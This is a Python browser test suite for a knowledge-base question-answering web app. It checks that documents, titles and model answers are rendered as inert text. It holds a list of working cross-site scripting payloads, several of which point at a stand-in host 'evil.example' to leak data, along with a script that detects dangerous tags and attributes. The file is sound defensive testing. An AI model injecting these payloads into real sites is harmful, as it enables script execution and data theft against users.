"""Nothing that documents, names, questions or models say is ever executed by the pages."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.fakes.llm_server import LlmServer
from tests.journeys.browsing import CHROMIUM, Site, chromium, file, kvasir_up, language_model, set_up_unseen, visit

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed: apt-get install chromium"),
]

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '"><img src=x onerror=window.pwned=1>',
    "'-window.pwned=1-'",
    "</title><script>window.pwned=1</script>",
    "</textarea><img src=x onerror=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<a href=javascript:window.pwned=1>look</a>",
    "[look](javascript:window.pwned=1)",
    "[look](java\tscript:window.pwned=1)",
    "[look](data:text/html,<script>opener.pwned=1</script>)",
    "![x](https://evil.example/pixel.png?secret)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "<https://evil.example/auto>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<object data=javascript:window.pwned=1></object>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button id=question>Go</button></form>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "<template><img src=x onerror=window.pwned=1></template>",
    "```\n</code></pre><img src=x onerror=window.pwned=1>\n```",
    "\u202e<b onmouseover=window.pwned=1>txet\u202c\u200b\x1b[31m",
    "&lt;img src=x onerror=window.pwned=1&gt;",
)
assert len(PAYLOADS) >= 30

FOREIGN_NODES = """() => {
  const bad = [];
  if ("pwned" in window) bad.push("executed");
  for (const node of document.querySelectorAll("*")) {
    const tag = node.localName;
    if (/^(iframe|object|embed|base|frame|video|audio|style|template|math)$/.test(tag)) bad.push(tag);
    if (tag === "script" && !/^\\/static\\/js\\/\\w+\\.js$/.test(node.getAttribute("src") ?? "")) bad.push("script");
    if (tag === "img" && node.getAttribute("src") !== "/static/img/mark.svg") bad.push("img");
    if (tag === "meta" && node.httpEquiv) bad.push("meta");
    if (tag === "link" && !node.getAttribute("href").startsWith("/static/")) bad.push("link");
    if (tag === "form" && node.hasAttribute("action")) bad.push("form");
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "formaction") bad.push(`${tag} ${name}`);
      if (/^(href|src|action)$/.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value)) bad.push(value);
      if (name === "href" && tag === "a" && !/^(\\/|#)/.test(value)) bad.push(value);
    }
  }
  return bad;
}"""


@pytest.fixture(scope="module")
def model() -> Iterator[LlmServer]:
    with language_model("ok") as server:
        yield server


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, model: LlmServer) -> Iterator[Site]:
    settings = {
        "KVASIR_ANSWER__ENGINE": "openai",
        "KVASIR_ANSWER__MIN_EVIDENCE": "0",
        "KVASIR_OPENAI__BASE_URL": model.base_url,
        "KVASIR_OPENAI__MODEL": "tiny",
        "KVASIR_WEB__QUESTIONS_PER_MINUTE": "1000",
    }
    with kvasir_up(tmp_path_factory.mktemp("safety"), **settings) as started:
        yield started


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def state(browser: Browser, site: Site) -> Any:
    return set_up_unseen(browser, site)


@pytest.fixture(scope="module")
def hostile_kb(browser: Browser, site: Site, state: Any) -> str:
    """A knowledge base whose every title, heading, text and file name is a payload."""
    name = PAYLOADS[0]
    documents = [
        file(f"{payload.translate({47: '_', 10: '_', 9: '_'})[:80]}.md", _riddle(n, payload).encode())
        for n, payload in enumerate(PAYLOADS)
    ]
    with visit(browser, site, state) as (page, watch):
        watch.expected = ("Failed to load resource",)  # a name may be refused
        page.goto("/documents")
        for payload in PAYLOADS:
            _call(page, "POST", "/kbs", {"name": payload[:90], "description": payload})
        if not _call(page, "GET", f"/kbs/{_quoted(page, name)}/documents"):
            name = "Riddles"
            assert _call(page, "POST", "/kbs", {"name": name, "description": PAYLOADS[1]})
        page.goto(f"/documents#{_quoted(page, name)}")
        page.reload()
        expect(page.get_by_role("heading", level=1)).to_have_text(name)
        page.locator("input[type=file]").set_input_files(documents)
        expect(page.locator(".upload.good, .upload.bad")).to_have_count(len(documents), timeout=60_000)
        expect(page.locator(".upload.good")).not_to_have_count(0)
        assert page.evaluate(FOREIGN_NODES) == []
    return name


def _riddle(n: int, payload: str) -> str:
    return f"# {payload}\n\n## Riddle {n} {payload}\n\nThe answer to riddle number {n} is {payload}.\n\n{payload}\n"


def _call(page: Page, method: str, path: str, body: Any = None) -> bool:
    """Whether the API accepts what a page sends."""
    script = """async ([method, path, body]) => {
      const headers = body ? { "Content-Type": "application/json" } : {};
      return (await fetch("/api/v1" + path, { method, headers, body: body && JSON.stringify(body) })).ok;
    }"""
    return bool(page.evaluate(script, [method, path, body]))


def _quoted(page: Page, text: str) -> str:
    return str(page.evaluate("encodeURIComponent", text))


def _asked(page: Page, question: str) -> None:
    before = page.locator(".exchange").count()
    page.get_by_label("Your question").fill(question)
    page.get_by_role("button", name="Send", exact=True).click()
    expect(page.locator(".exchange")).to_have_count(before + 1)
    expect(page.locator(".exchange").last.get_by_role("button", name="Good answer")).to_be_visible()


def test_hostile_documents_stay_text(browser: Browser, site: Site, state: Any, hostile_kb: str) -> None:
    with visit(browser, site, state) as (page, _):
        page.goto(f"/documents#{_quoted(page, hostile_kb)}")
        expect(page.locator(".documents tbody")).to_contain_text("window.pwned")
        assert page.evaluate(FOREIGN_NODES) == []
        page.get_by_role("button", name="Delete").first.click()
        assert page.evaluate(FOREIGN_NODES) == []


def test_hostile_answers_and_sources_stay_text(
    browser: Browser, site: Site, state: Any, model: LlmServer, hostile_kb: str
) -> None:
    model.mode = "ok"
    with visit(browser, site, state) as (page, _):
        page.goto("/")
        page.get_by_label("Knowledge base", exact=True).select_option(hostile_kb)
        assert page.evaluate(FOREIGN_NODES) == []
        for first in range(0, len(PAYLOADS), 12):
            said = "\n\n".join(f"{payload} [1] [2]" for payload in PAYLOADS[first : first + 12])
            model.text = f"The answer to the riddle number {first} is: {said}"
            _asked(page, f"What is the answer to riddle number {first}? {PAYLOADS[first]}")
            assert page.evaluate(FOREIGN_NODES) == []
            last = page.locator(".exchange").last
            expect(last.locator(".source")).not_to_have_count(0)
            for number, source in enumerate(last.locator(".source-toggle").all(), 1):
                source.click()
                expect(last.locator(".piece.hit")).to_have_count(number)  # it moves those below
            assert page.evaluate(FOREIGN_NODES) == []
        page.reload()
        expect(page.locator(".exchange").last).to_be_visible()
        assert page.evaluate(FOREIGN_NODES) == []


def test_hostile_titles_stay_text(browser: Browser, site: Site, state: Any, hostile_kb: str) -> None:
    assert hostile_kb
    script = """async (titles) => {
      const send = (method, path, body) => fetch("/api/v1/conversations" + path,
        { method, headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
      for (const title of titles) {
        const made = await (await send("POST", "", {})).json();
        await send("PATCH", "/" + made.id, { title });
      }
    }"""
    with visit(browser, site, state) as (page, _):
        page.goto("/")
        page.evaluate(script, list(PAYLOADS))
        page.reload()
        expect(page.locator(".conversation")).not_to_have_count(0)
        assert page.evaluate(FOREIGN_NODES) == []
        for link in page.locator(".conversation a").all()[:6]:
            link.click()
            assert page.evaluate(FOREIGN_NODES) == []


def long_answer() -> str:
    """Without repeating itself, which would end it."""
    return " ".join(f"The wise one **speaks** of matter {number}." for number in range(200))


def ask(page: Page, kb: str) -> None:
    page.goto("/")
    page.get_by_label("Knowledge base", exact=True).select_option(kb)
    page.get_by_label("Your question").fill("What is the answer to riddle number 3?")
    page.keyboard.press("Enter")


def test_a_long_answer_streams_and_stops(
    browser: Browser, site: Site, state: Any, model: LlmServer, hostile_kb: str
) -> None:
    model.mode, model.text = "slow", long_answer()
    with visit(browser, site, state) as (page, _):
        ask(page, hostile_kb)
        answer = page.locator(".answer[aria-busy]")
        expect(answer.locator("strong").nth(3)).to_be_visible()
        shown = len(answer.inner_text())
        page.wait_for_function("n => document.querySelector('.answer').innerText.length > n + 40", arg=shown)
        not_written_yet = re.compile("/api/v1/conversations/[0-9a-f]{32}$")
        page.route(not_written_yet, lambda route: route.fulfill(json={"exchanges": []}), times=1)
        page.keyboard.press("Escape")
        expect(page.locator(".answer[aria-busy]")).to_have_count(0)
        expect(page.locator(".answer")).to_contain_text("Stopped.")
        expect(page.get_by_role("button", name="Good answer")).to_be_visible()
        page.get_by_role("button", name="Answer again").click()
        page.get_by_role("button", name="Stop").click()
        expect(page.get_by_role("button", name="Answer again")).to_be_visible()


def test_an_answer_that_was_done_as_it_was_stopped_can_be_rated(
    browser: Browser, site: Site, state: Any, model: LlmServer, hostile_kb: str
) -> None:
    model.mode, model.text = "slow", long_answer()
    whole = {"answer_id": "a" * 32, "question": "What is the answer to riddle number 3?", "html": "<p>All of it.</p>"}
    rest = {"text": "All of it.", "answered": True, "state": "complete", "notice": "", "sources": [], "rating": None}
    with visit(browser, site, state) as (page, _):
        page.route(
            re.compile("/api/v1/conversations/[0-9a-f]{32}$"),
            lambda route: route.fulfill(json={"exchanges": [{**whole, **rest}]}),
        )
        ask(page, hostile_kb)
        expect(page.locator(".answer[aria-busy] strong").first).to_be_visible()
        page.keyboard.press("Escape")
        expect(page.get_by_text("All of it.")).to_be_visible()
        expect(page.get_by_role("button", name="Good answer")).to_be_visible()


def test_the_second_lock_holds_alone(browser: Browser, site: Site, state: Any) -> None:
    """The page's own sanitiser and its streaming Markdown, given raw payloads, without a policy to help them."""
    script = """async (payloads) => {
      const { sanitise } = await import("/static/js/sanitise.js");
      const { LiveMarkdown } = await import("/static/js/markdown.js");
      for (const payload of payloads) {
        const place = document.querySelector("#thread").appendChild(document.createElement("div"));
        place.append(sanitise(payload), sanitise(`<p title="${payload}">${payload}</p>`));
        const live = new LiveMarkdown(document.querySelector("#thread").appendChild(document.createElement("div")));
        for (let end = 1; end <= payload.length; end += 1) live.show(payload.slice(0, end));
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
    }"""
    with visit(browser, site, state, bypass_csp=True) as (page, _):
        page.goto("/")
        page.locator("html[data-ready]").wait_for()
        page.evaluate(script, list(PAYLOADS))
        foreign = [found for found in page.evaluate(FOREIGN_NODES) if not found.startswith("https://evil.example/")]
        assert foreign == []
